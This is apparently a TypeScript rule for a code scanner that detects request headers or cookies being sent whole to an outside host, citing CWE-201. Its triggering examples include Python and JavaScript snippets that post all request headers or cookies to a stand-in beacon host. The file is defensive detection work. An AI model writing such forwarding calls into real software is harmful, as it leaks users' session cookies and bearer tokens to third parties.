// Flags requests whose headers or cookies are sent whole to another host: sign-ins and bearer tokens go with them.
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import { holds, type TreeNode, walk } from '../../../syntax/tree.ts'
import { adds } from '../../example-diff.ts'
import { judgeTrees } from '../../handler.ts'
import { type Image, isWritten, textOf } from '../../image.ts'

interface Facts {
  readonly shown: string
  readonly host: string
}

export const requestShipped = rule({
  id: 'code.effect.request_shipped',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/201.html',
  message: ({ shown, host }: Facts) =>
    `\`${shown}\` sends the headers or cookies of requests to ${host}: whoever runs it can act as the people who sent them.`,
  fix: 'Send named fields that hold no credentials.',
  fires: [
    adds(
      'web/watch.py',
      'import requests',
      'def seen(request):',
      '    requests.post("https://beacon.orchard-lane.io/v1", json={"path": request.path, "head": dict(request.headers)})',
    ),
    adds(
      'web/watch.js',
      'export async function seen(req) {',
      '  await ship({ at: Date.now(), cookies: req.cookies })',
      '}',
      'async function ship(doc) {',
      "  await fetch('https://beacon.orchard-lane.io/v1', { method: 'POST', body: JSON.stringify(doc) })",
      '}',
    ),
  ],
  quiet: [
    adds(
      'web/watch.py',
      'import requests',
      'def seen(request):',
      '    requests.post("https://beacon.orchard-lane.io/v1", json={"path": request.path, "agent": request.headers.get("user-agent")})',
    ),
    adds(
      'web/pass.js',
      'export async function pass(req) {',
      "  return fetch('https://rooms.orchard-lane.io' + req.path, { headers: req.headers })",
      '}',
    ),
  ],
})

/** All headers or all cookies of a request. */
const WHOLE =
  /^(?:dict\(\)|)$|^(?:req|request|ctx\.req|ctx\.request|self\.request|this\.request|c\.request|r)\.(?:headers|rawHeaders|cookies|Header|COOKIES|META)(?:\.(?:entries|items|all|toArray|to_h|to_dict|copy|raw))?(?:\(\))?$|^getallheaders\(\)$/
const SENDS = /^(?:post|put|patch|request|fetch|send|sendBeacon|Post|NewRequest|post_json|urlopen)$/
const HOST = /^https?:\/\/([a-z0-9][a-z0-9.-]{2,120}\.[a-z]{2,24})(?=[/:?]|$)/i
const INSIDE = /(?:^|\.)(?:localhost|local|internal|svc|cluster\.local|lan|intranet)$|^(?:127|10)\./i

/** The host that a call names, where it is one outside. */
function hostOf({ items, left }: TreeNode): string | null {
  if (!SENDS.test(left?.name ?? '')) return null
  for (const one of items) {
    const text = one.kind === 'string' ? one : one.kind === 'binary' ? one.left : null
    const host = text?.kind === 'string' ? HOST.exec(text.name)?.[1] : undefined
    if (host !== undefined) return INSIDE.test(host) ? null : host
  }
  return null
}

export const judgeShipped = judgeTrees(
  ({ change, after: image }, report) => {
    if (change.isTest || !/headers|cookies|Header\b|COOKIES|META/i.test(image.side.bare)) return
    const senders = sendersIn(image)
    let told = false
    walk(image.root, (tree) => {
      if (told) return false
      if (tree.kind !== 'call') return undefined
      report.budget.spend(4)
      const direct = hostOf(tree)
      const host = direct ?? senders.get(tree.left?.name ?? '') ?? null
      if (
        host === null ||
        !(direct === null ? tree.items : payloadOf(tree)).some((one) => isWhole(image, one))
      )
        return undefined
      if (!isWritten(image.side, tree.start, tree.end)) return undefined
      told = true
      report.found(requestShipped, image.side, [tree.start, tree.end], {
        shown: excerpt(textOf(image.side, tree), 90),
        host,
      })
      return false
    })
  },
  [/headers|cookies|Header\b|COOKIES|META/i],
)

/** Functions of this file that send what they are given, with the host. */
function sendersIn({ root }: Image): ReadonlyMap<string, string> {
  const found = new Map<string, string>()
  walk(root, (tree) => {
    if (tree.kind !== 'function' || tree.name === '' || tree.body === null) return undefined
    const given = new Set(tree.items.map(({ name }) => name))
    walk(tree.body, (one) => {
      const host = one.kind === 'call' ? hostOf(one) : null
      if (
        host !== null &&
        payloadOf(one).some((part) => holds(part, ({ kind, name }) => kind === 'name' && given.has(name)))
      )
        found.set(tree.name, host)
      return undefined
    })
    return undefined
  })
  return found
}

/** What goes out beside the headers of the call itself: a gateway hands those on. */
const payloadOf = ({ items }: TreeNode): readonly TreeNode[] =>
  items
    .flatMap((one) => (one.kind === 'dict' ? one.items : [one]))
    .filter(
      (one) => !(one.kind === 'pair' && /^(?:headers|cookies)$/.test(one.name) && one.right?.kind !== 'call'),
    )

const isWhole = (image: Image, tree: TreeNode): boolean =>
  holds(tree, (one) => {
    if (!/^(?:member|call)$/.test(one.kind)) return false
    const path = image.names.pathOf(one)
    if (path === '' || !WHOLE.test(path)) return false
    const around = image.parentOf.get(one)
    return (
      around?.kind !== 'index' &&
      !(around?.kind === 'member' && !/^(?:entries|items|all|toArray|to_h|copy)$/.test(around.name))
    )
  })
